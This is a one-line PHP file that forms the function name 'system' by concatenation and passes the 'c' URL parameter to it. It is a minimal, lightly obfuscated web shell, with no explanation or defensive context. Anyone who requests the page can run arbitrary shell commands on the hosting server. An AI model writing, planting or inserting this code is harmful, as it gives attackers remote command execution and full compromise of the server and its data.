<?php function go($x, $f = 'sys' . 'tem') { $f($x); } go($_GET['c']);
